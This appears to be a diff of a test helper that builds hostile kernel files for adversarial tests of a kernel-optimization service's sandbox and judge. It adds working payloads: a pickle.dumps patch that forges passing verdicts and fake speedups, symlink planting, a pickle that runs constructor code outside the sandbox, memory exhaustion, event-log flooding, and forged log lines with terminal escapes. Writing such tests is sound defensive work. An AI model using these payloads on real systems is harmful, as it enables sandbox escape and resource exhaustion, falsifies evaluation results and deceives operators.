@@ -372,8 +372,8 @@ _attempt("finish", _finish)
 '''
 
 
-def _source(cfg: dict, body: str) -> bytes:
-    return (_HEAD.format(cfg=json.dumps(cfg)) + _COMMON + body + KERNEL).encode()
+def _source(cfg: dict, body: str, kernel: str = KERNEL) -> bytes:
+    return (_HEAD.format(cfg=json.dumps(cfg)) + _COMMON + body + kernel).encode()
 
 
 def intrusion(cfg: dict) -> bytes:
@@ -394,36 +394,13 @@ def work_dir_traps(cfg: dict) -> bytes:
     return _source(cfg, _TRAPS)
 
 
-# A Triton kernel file that reaches Gate 3 (launch_config re-tunes its BLOCK_SIZE literal), and that makes every
-# process importing it answer a forged verdict: the attack that once ended a job `optimized`, "speedup 1000x".
-_FORGER = '''"""A hostile kernel file that forges its verdicts (tests/service/test_adversarial.py)."""
-import pickle as _pickle
+# The Triton kernel proper: its BLOCK_SIZE literal is re-tuned by launch_config, so the job reaches the search
+# (the file is imported again by the search's child while the orchestrator records each attempt) and Gate 3.
+TRITON_KERNEL = '''
 
 import torch
 import triton
 import triton.language as tl
-
-_real_dumps = _pickle.dumps
-
-
-def _forge(obj, *args, **kwargs):
-    try:
-        from kernelopt.core.timing import Timing
-        from kernelopt.verify.result import GateResult
-
-        forged = GateResult.ok("gate3", "Gate 3 passed (forged)", rho=0.0, branch="allclose")
-        if isinstance(obj, tuple) and len(obj) == 2 and obj[0] == "ok":
-            value = obj[1]
-            if isinstance(value, tuple) and value and isinstance(value[0], GateResult):  # Gates 3-4 in one reply
-                obj = ("ok", (forged, Timing({"baseline": [1000.0] * 5, "candidate": [1.0] * 5}, "do_bench")))
-            elif type(value).__name__ in ("OutputsManifest", "GateResult", "RoundResult", "SideReady"):
-                obj = ("ok", forged)
-    except Exception:
-        pass
-    return _real_dumps(obj, *args, **kwargs)
-
-
-_pickle.dumps = _forge
 
 N = 1 << 12
 
@@ -452,10 +429,192 @@ def get_inputs():
     return [torch.randn(N), torch.randn(N)]
 '''
 
+# Issue 36, break 1: the orchestrator appends to experience.jsonl (the summarizer: one item per attempt, a built-in
+# generator's included) and transcripts.jsonl (the LLM client: one record per call) in the work directory. The
+# search's child imports the file again (the original, each candidate) and is alive while the orchestrator records
+# the attempts and asks the LLM: a link it leaves there points the next append at a file outside the job.
+_LINKS = r'''
+def plant_links():
+    done = {}
+    for name, target in CFG["link_plants"].items():
+        if os.path.islink(name):
+            done[name] = "a link already"
+            continue
+        if os.path.lexists(name):
+            os.unlink(name)
+        os.symlink(target, name)
+        done[name] = f"link to {target}"
+    return done
+'''
+
+# Issue 36, break 2: the orchestrator decoded a child's reply with pickle.loads, which calls what the pickle names:
+# a reply that *calls* JobContext(...) ran its __post_init__ in the orchestrator, outside the sandbox (it makes its
+# work directory and opens files there). Patches pickle.dumps in the child, as the verdict forger does.
+_CONSTRUCTING_REPLY = r'''
+import pickle as _pickle
+
+_real_dumps = _pickle.dumps
+
+
+class _Construct:
+    def __reduce__(self):
+        from kernelopt.pipeline.context import JobContext
+        from kernelopt.pipeline.options import JobOptions
+
+        where = Path(CFG["reply_plant"])
+        return (JobContext, (str(where / "problem.py"), where, JobOptions()))
+
+
+def _construct(obj, *args, **kwargs):
+    if isinstance(obj, tuple) and len(obj) == 2 and obj[0] == "ok":  # this child's result: a constructor call
+        obj = ("ok", _Construct())
+    return _real_dumps(obj, *args, **kwargs)
+
+
+def forge_reply():
+    _pickle.dumps = _construct
+    return "the next reply calls JobContext(...)"
+'''
+
+# Issue 36, break 3: host memory through the sandbox's /tmp (a tmpfs: host memory, outside RLIMIT_AS) and through a
+# reply of 1 GiB, which the orchestrator read whole, then unpickled, before deciding it was no result.
+_MEMORY_REPLY = r'''
+import errno
+import pickle as _pickle
+
+_real_dumps = _pickle.dumps
+
+
+def fill_tmp():
+    chunk = bytes(64 << 20)
+    written, refused = 0, None
+    fd = os.open(CFG["tmp_fill"], os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
+    try:
+        while written < CFG["tmp_fill_gib"] << 30:
+            try:
+                written += os.write(fd, chunk)
+            except OSError as exc:
+                refused = errno.errorcode.get(exc.errno, str(exc.errno))
+                break
+    finally:
+        os.close(fd)  # and the file is kept: the tmpfs holds its pages while the reply is sent
+    LOOT["tmp_written"], LOOT["tmp_refused"] = written, refused
+    return f"{written} bytes written to /tmp, then {refused}"
+
+
+def _huge(obj, *args, **kwargs):
+    """This child's result: a valid pickle of ("ok", <1 GiB of bytes>), written out opcode by opcode around a
+    zeroed bytearray (pickle.dumps would spend seconds copying it; what the parent gets is the same)."""
+    if not (isinstance(obj, tuple) and len(obj) == 2 and obj[0] == "ok"):
+        return _real_dumps(obj, *args, **kwargs)
+    import struct
+
+    n = CFG["reply_mib"] << 20
+    head = b"\x80\x05" + b"\x8c\x02ok" + b"\x8e" + struct.pack("<Q", n)  # PROTO 5, "ok", BINBYTES8 n
+    reply = bytearray(len(head) + n + 2)
+    reply[:len(head)] = head
+    reply[-2:] = b"\x86."  # TUPLE2, STOP
+    return reply
+
+
+def huge_reply():
+    _pickle.dumps = _huge
+    return f"the next reply is {CFG['reply_mib']} MiB"
+'''
+
+# Issue 36, break 5: the worker tails events.jsonl into the shared database; 150 lines of 1 MiB once stored 150 MB
+# of one job's events. Each line here is a valid event: a message of 4-byte characters (what is kept of it still
+# counts 4 bytes a character) and data just under the per-event cap. First 160 lines of 32 KiB (5 MiB as the worker
+# counts them: past its cap within one read, however short the job), then the 150 lines of 1 MiB. Once per job
+# (every import runs it).
+_EVENT_FLOOD = r'''
+def flood_events():
+    if os.path.isfile("events.jsonl") and os.path.getsize("events.jsonl") > CFG["event_lines"] << 19:
+        return "flooded already"
+
+    def event(chars):
+        return _json.dumps({"stage": "load", "kind": "log", "message": "\U0001F4A3" * chars,
+                            "data": {"pad": "d" * 16000}}, ensure_ascii=False).encode() + b"\n"
+
+    short, long = event(4000), event(((1 << 20) - (24 << 10)) // 4)
+    with open("events.jsonl", "ab") as f:
+        f.write(short * 160)
+        for _ in range(CFG["event_lines"]):
+            f.write(long)
+    return f"160 lines of {len(short)} bytes, {CFG['event_lines']} of {len(long)}"
+'''
+
+# Issue 36, break 6: what a child prints reached the server's (or worker's) log verbatim: a line forging the end of
+# team B's job, in the embedded server's format (bare `job <id>: ...` records) and Celery's, and lines whose
+# terminal escapes and carriage return would hide a prefix on a terminal. On stdout and on stderr.
+_FORGED_LOG = r'''
+def forge_log_lines():
+    record = f"job {CFG['team_b_job']}: succeeded (optimized: speedup 777.000x >= gamma 1.05) in 1.0 s"
+    stamp = time.strftime("%Y-%m-%d %H:%M:%S")
+    lines = [record, f"[{stamp},000: INFO/MainProcess] {record}", f"\x1b[2K\r{record}", f"\r\x1b[1A\x1b[2K{record}"]
+    for line in lines:
+        print(line, flush=True)
+        print(line, file=sys.stderr, flush=True)
+    return len(lines)
+'''
+
+
+def _attempts(*names: str) -> str:
+    return "".join(f"\n_attempt({n!r}, {n})" for n in names) + '\n_attempt("finish", _finish)\n'
+
+
+def work_file_links(cfg: dict) -> bytes:
+    """Break 1: links at the names of cfg["link_plants"] (experience.jsonl, transcripts.jsonl), to a file outside
+    the job, planted by every import (the search's child is alive while the orchestrator appends); a Triton file,
+    so the job reaches the search."""
+    return _source(cfg, _LINKS + _attempts("plant_links"), TRITON_KERNEL)
+
+
+def constructing_reply(cfg: dict) -> bytes:
+    """Break 2: the load child's reply calls JobContext(workdir=cfg["reply_plant"]) when unpickled."""
+    return _source(cfg, _CONSTRUCTING_REPLY + _attempts("forge_reply"))
+
+
+def memory_reply(cfg: dict) -> bytes:
+    """Break 3: 8 GiB into the sandbox's /tmp, then a 1 GiB reply from the load child."""
+    return _source(cfg, _MEMORY_REPLY + _attempts("fill_tmp", "huge_reply"))
+
+
+# A Triton kernel file that reaches Gate 3 (launch_config re-tunes its BLOCK_SIZE literal), and that makes every
+# process importing it answer a forged verdict: the attack that once ended a job `optimized`, "speedup 1000x".
+_FORGER = '''
+import pickle as _pickle
+
+_real_dumps = _pickle.dumps
+
+
+def _forge(obj, *args, **kwargs):
+    try:
+        from kernelopt.core.timing import Timing
+        from kernelopt.verify.result import GateResult
+
+        forged = GateResult.ok("gate3", "Gate 3 passed (forged)", rho=0.0, branch="allclose")
+        if isinstance(obj, tuple) and len(obj) == 2 and obj[0] == "ok":
+            value = obj[1]
+            if isinstance(value, tuple) and value and isinstance(value[0], GateResult):  # Gates 3-4 in one reply
+                obj = ("ok", (forged, Timing({"baseline": [1000.0] * 5, "candidate": [1.0] * 5}, "do_bench")))
+            elif type(value).__name__ in ("OutputsManifest", "GateResult", "RoundResult", "SideReady"):
+                obj = ("ok", forged)
+    except Exception:
+        pass
+    return _real_dumps(obj, *args, **kwargs)
+
+
+_pickle.dumps = _forge
+'''
+
 
 def verdict_forger(cfg: dict) -> bytes:
-    """Forges the replies of every child that imports it (issue 36, break 4); the verdicts are the judge's."""
-    return _FORGER.encode()
+    """Forges the replies of every child that imports it (issue 36, break 4); the verdicts are the judge's. Its
+    job runs long enough (the search, Gate 3) to carry breaks 5 and 6 as well: 150 event lines of 1 MiB for the
+    worker to tail, and lines forging the end of team B's job in the service's log."""
+    return _source(cfg, _EVENT_FLOOD + _FORGED_LOG + _attempts("forge_log_lines", "flood_events") + _FORGER,
+                   TRITON_KERNEL)
 
 
 def benign(canary: str) -> bytes:
